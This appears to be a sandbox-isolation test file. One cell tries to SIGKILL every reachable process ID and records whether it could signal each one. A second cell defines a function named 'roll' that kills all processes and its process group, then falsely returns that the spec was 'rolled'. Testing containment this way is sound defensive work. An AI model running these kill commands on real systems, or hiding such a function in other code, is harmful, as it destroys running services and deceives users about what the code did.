# Every process that can be reached is killed.

# %%
import os, signal

for process in {1, os.getppid(), *range(2, 300)} - {0, os.getpid()}:
    try:
        os.kill(process, 0)
        if process > 3 and not os.path.exists(f"/proc/{process}"):
            succeeded(f"could signal {process}")
        os.kill(process, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        pass
tried()

# %% answer="roll"
import os, signal


async def roll(spec):
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return f"{spec}: rolled"
